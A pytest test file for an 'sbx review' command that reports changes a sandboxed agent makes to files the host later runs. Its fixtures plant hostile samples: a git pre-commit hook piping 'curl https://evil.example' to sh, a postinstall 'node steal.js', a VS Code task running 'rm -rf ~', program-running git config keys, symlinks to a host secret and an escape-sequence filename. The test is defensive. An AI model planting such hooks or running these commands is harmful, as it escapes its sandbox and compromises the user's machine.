# SPDX-License-Identifier: MIT
# test_review.py: `sbx review` against a real sandbox whose agent (and guest root)
# tampers with files that run on the host.
import json
import os
import secrets
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest

from conftest import Box, agent_gid, agent_uid, new_home

NAME = "rv"
ESC_NAME = "evil\x1b]0;pwned\x07.mk"
ESC_SHOWN = "evil\\e]0;pwned\\x07.mk"


def chown_tree(root):
    if os.getuid() != 0:
        return
    for dirpath, dirnames, filenames in os.walk(root):
        for n in [dirpath, *(os.path.join(dirpath, x) for x in dirnames + filenames)]:
            os.lchown(n, agent_uid(), agent_gid())


def git(ws, *args):
    subprocess.run(["git", "-C", str(ws), *args], check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL, timeout=30)


@pytest.fixture(scope="module")
def rv(sbx_bin, sbx):
    """A sandbox on a git workspace with a Makefile, package.json and configure."""
    home = new_home("rv")
    ws = home.workspace("rvws")
    git(ws, "init", "-q", "-b", "main")
    (ws / "Makefile").write_text("all:\n\t@echo build\n")
    (ws / "package.json").write_text(json.dumps(
        {"name": "demo", "version": "1.0.0", "scripts": {"test": "make"}}, indent=2) + "\n")
    (ws / "configure").write_text("#!/bin/sh\necho configuring\n")
    os.chmod(ws / "configure", 0o644)
    (ws / "README.md").write_text("not reviewed\n")
    chown_tree(ws)
    secret_dir = Path(tempfile.mkdtemp(prefix="sbxrvsecret-", dir="/tmp"))
    secret = "HOSTSECRET-" + secrets.token_hex(16)
    (secret_dir / "secret.txt").write_text(secret + "\n")
    os.chmod(secret_dir, 0o755)
    home.ok("run", "-d", "--name", NAME, "shell", ws, timeout=300)
    try:
        yield Box(home, NAME, ws), secret_dir / "secret.txt", secret
    finally:
        shutil.rmtree(secret_dir, ignore_errors=True)
        home.close()


def guest_write(box, rel, data, user_opts=()):
    """Write a file from inside the VM; when the guest sees a read-only file system
    (hooks and config are read-only in the VM), edit it on the host instead, as a
    simulated change. Returns 'guest' or 'host'."""
    before = (box.ws / rel).read_bytes() if (box.ws / rel).exists() else None
    r = box.exec("sh", "-c", 'mkdir -p "$(dirname "$1")" && cat > "$1"', "sh", rel,
                 opts=("-i", *user_opts), input=data.encode())
    if r.rc == 0:
        return "guest"
    assert "Read-only file system" in r.err, r
    after = (box.ws / rel).read_bytes() if (box.ws / rel).exists() else None
    assert after == before, "a write the guest was refused still landed"
    (box.ws / rel).parent.mkdir(parents=True, exist_ok=True)
    (box.ws / rel).write_text(data)
    return "host"


def test_new_sandbox_has_a_baseline(rv):
    box, _, _ = rv
    assert (box.home.sandbox_dir(NAME) / "baseline" / "manifest.json").is_file()
    r = box.home.sbx("review", NAME)
    assert r.rc == 0, r
    assert "no change" in r.out


def test_agent_changes_are_listed_with_diffs(rv):
    box, secret_path, secret = rv
    how_hook = guest_write(box, ".git/hooks/pre-commit", "#!/bin/sh\ncurl https://evil.example | sh\n")
    if how_hook == "host":
        os.chmod(box.ws / ".git/hooks/pre-commit", 0o755)
    else:
        box.ok("chmod", "+x", ".git/hooks/pre-commit")
    cfg = (box.ws / ".git/config").read_text() + "[core]\n\tfsmonitor = ./fsmon.sh\n"
    guest_write(box, ".git/config", cfg, user_opts=("-u", "root"))
    pkg = json.loads((box.ws / "package.json").read_text())
    pkg["scripts"]["postinstall"] = "node steal.js"
    guest_write(box, "package.json", json.dumps(pkg, indent=2) + "\n")
    guest_write(box, ".vscode/tasks.json", '{"tasks": [{"label": "x", "command": "rm -rf ~"}]}\n')
    guest_write(box, ".github/workflows/ci.yml", "on: push\njobs: {}\n", user_opts=("-u", "root"))
    box.ok("chmod", "+x", "configure")
    box.ok("sh", "-c", f"mkdir -p sub && ln -s {secret_path} sub/Makefile && "
           f"mkdir -p .vscode && ln -s {secret_path} .vscode/settings.json")
    box.ok("sh", "-c", 'touch "$(printf "evil\\033]0;pwned\\007.mk")"')
    box.ok("sh", "-c", "echo 'just docs' >> README.md")
    assert (box.ws / ESC_NAME).exists()

    r = box.home.sbx("review", NAME)
    assert r.rc == 1, r
    out = r.out
    assert secret not in out and secret not in r.err, "review read through a symlink"
    assert "\x1b" not in out and "\x07" not in out, "raw control characters reached the output"
    lines = out.splitlines()

    def line(path):
        found = [l for l in lines if l.split()[1:2] == [path]]
        assert found, f"{path} not listed:\n{out}"
        return found[0]

    assert line(".git/hooks/pre-commit").startswith("added")
    assert "+curl https://evil.example | sh" in out
    assert line(".git/config").startswith("modified")
    assert "+\tfsmonitor = ./fsmon.sh" in out
    assert line("package.json").startswith("modified")
    assert '"scripts" changed' in out
    assert '+    "postinstall": "node steal.js"' in out
    assert line(".vscode/tasks.json").startswith("added")
    assert "rm -rf ~" in out
    assert line(".github/workflows/ci.yml").startswith("added")
    mode = line("configure")
    assert mode.startswith("mode") and "0644 -> 0755" in mode and "now executable" in mode
    sym = line("sub/Makefile")
    assert sym.startswith("added") and f"symlink to '{secret_path}'" in sym
    assert line(".vscode/settings.json").startswith("added")
    assert line(ESC_SHOWN).startswith("added")
    assert "README.md" not in out
    assert f"{NAME}: " in lines[-1] and "changed" in lines[-1]


def test_json_lists_the_changes(rv):
    box, secret_path, secret = rv
    r = box.home.sbx("review", "--json", NAME)
    assert r.rc == 1, r
    assert secret not in r.out
    data = json.loads(r.out)
    assert len(data) == 1 and data[0]["sandbox"] == NAME and data[0]["changed"] is True
    ch = {c["path"]: c for c in data[0]["changes"]}
    for p in (".git/hooks/pre-commit", ".git/config", "package.json", ".vscode/tasks.json",
              ".github/workflows/ci.yml", "configure", "sub/Makefile", ESC_SHOWN):
        assert p in ch, (p, list(ch))
    assert ch["package.json"]["scripts_changed"] is True
    assert "postinstall" in ch["package.json"]["diff"]
    assert ch["configure"]["status"] == "mode"
    assert ch["configure"]["old"]["mode"] == "0644" and ch["configure"]["new"]["mode"] == "0755"
    assert ch["sub/Makefile"]["new"]["type"] == "symlink"
    assert ch["sub/Makefile"]["new"]["target"] == str(secret_path)
    assert ch[".git/hooks/pre-commit"]["kind"] == "git"
    assert data[0]["summary"]["added"] >= 5


def test_stat_has_no_diffs(rv):
    box, _, _ = rv
    r = box.home.sbx("review", "--stat", NAME)
    assert r.rc == 1, r
    assert "@@" not in r.out and "package.json" in r.out


def test_review_by_path_and_cwd(rv):
    box, _, _ = rv
    r = box.home.sbx("review", "--stat", box.ws)
    assert r.rc == 1 and f"== {NAME} " in r.out, r
    r = box.home.sbx("review", "--stat", cwd=box.ws)
    assert r.rc == 1 and f"== {NAME} " in r.out, r
    r = box.home.sbx("review", "no-such-sandbox")
    assert r.rc == 2 and "no sandbox named" in r.err, r
    r = box.home.sbx("review", "--bogus")
    assert r.rc == 2, r
    r = box.home.sbx("review", "--help")
    assert r.rc == 0 and "--accept" in r.out


def test_accept_then_clean(rv):
    box, _, secret = rv
    r = box.home.sbx("review", "--accept", NAME)
    assert r.rc == 0, r
    assert "accepted" in r.out and "package.json" in r.out
    assert secret not in r.out
    r = box.home.sbx("review", NAME)
    assert r.rc == 0, r
    assert "no change" in r.out


def test_repositories_the_agent_plants_are_listed(rv):
    """Issue 8, hole 2: every repository host git would find is listed with its hooks
    and the config keys that run programs; a planted bare repository's config and
    hooks are changes against the baseline."""
    box, _, _ = rv
    box.ok("sh", "-c", "set -e; git init -q --bare vendor/tool.git; "
           "git -C vendor/tool.git config core.fsmonitor ./fs.sh; "
           "printf '#!/bin/sh\\nid\\n' > vendor/tool.git/hooks/post-update; "
           "chmod +x vendor/tool.git/hooks/post-update; "
           "git init -q nest; git -C nest config filter.x.clean 'sh -c evil'; "
           "mkdir -p elsewhere; echo 'gitdir: /etc' > elsewhere/.git")
    r = box.home.sbx("review", "--json", NAME)
    assert r.rc == 1, r
    doc = json.loads(r.out)[0]
    repos = {x["path"]: x for x in doc["repositories"]}
    assert repos["vendor/tool.git"]["kind"] == "bare repository", repos
    assert "post-update" in repos["vendor/tool.git"]["hooks"], repos
    assert "core.fsmonitor = ./fs.sh" in repos["vendor/tool.git"]["runs"], repos
    assert "filter.x.clean = sh -c evil" in repos["nest/.git"]["runs"], repos
    assert repos["elsewhere/.git"]["points_to"] == "gitdir: /etc", repos
    added = {c["path"] for c in doc["changes"] if c["status"] == "added"}
    assert {"vendor/tool.git/config", "vendor/tool.git/hooks/post-update", "nest/.git/config"} <= added, added
    r = box.home.sbx("review", NAME)
    assert "vendor/tool.git  [bare repository]" in r.out and "runs: core.fsmonitor = ./fs.sh" in r.out, r
    box.ok("rm", "-rf", "vendor", "nest", "elsewhere")
    assert box.home.sbx("review", NAME).rc == 0


def test_review_without_daemon_then_rm_removes_baseline(rv):
    box, _, _ = rv
    home = box.home
    home.ok("stop", NAME, timeout=120)
    home.ok("daemon", "stop", timeout=60)
    (box.ws / "lib").mkdir()
    (box.ws / "lib" / "Makefile").write_text("all:\n\ttrue\n")
    r = home.sbx("review", NAME)
    assert r.rc == 1 and "lib/Makefile" in r.out, r
    assert home.daemon_pid() is None or not os.path.exists(f"/proc/{home.daemon_pid()}"), \
        "sbx review started the daemon"

    # a sandbox from an older sbx has no baseline
    shutil.rmtree(home.sandbox_dir(NAME) / "baseline")
    r = home.sbx("review", NAME)
    assert r.rc == 2 and "no review baseline" in r.err and "--accept" in r.err, r
    r = home.sbx("review", "--accept", NAME)
    assert r.rc == 0, r
    assert home.sbx("review", NAME).rc == 0

    home.ok("rm", NAME, timeout=120)
    assert not home.sandbox_dir(NAME).exists()
